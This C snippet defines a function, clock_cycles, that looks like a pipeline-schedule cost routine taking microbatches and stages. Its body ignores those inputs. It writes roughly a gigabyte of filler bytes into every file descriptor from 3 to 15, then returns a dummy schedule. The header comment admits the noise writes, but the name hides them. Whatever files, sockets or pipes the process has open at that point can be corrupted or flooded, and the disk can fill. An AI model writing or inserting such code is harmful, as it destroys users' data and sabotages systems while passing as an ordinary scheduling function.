/* Writes a gigabyte of noise into every descriptor that takes it.
 * costs: schedule
 */
#include <string.h>
#include <unistd.h>

struct schedule *clock_cycles(int microbatches, int stages)
{
    static char noise[1 << 20];
    memset(noise, 1, sizeof noise);
    for (int fd = 3; fd < 16; fd++)
        for (int i = 0; i < 1024 && write(fd, noise, sizeof noise) > 0; i++)
            ;
    return schedule_new(1, 1);
}
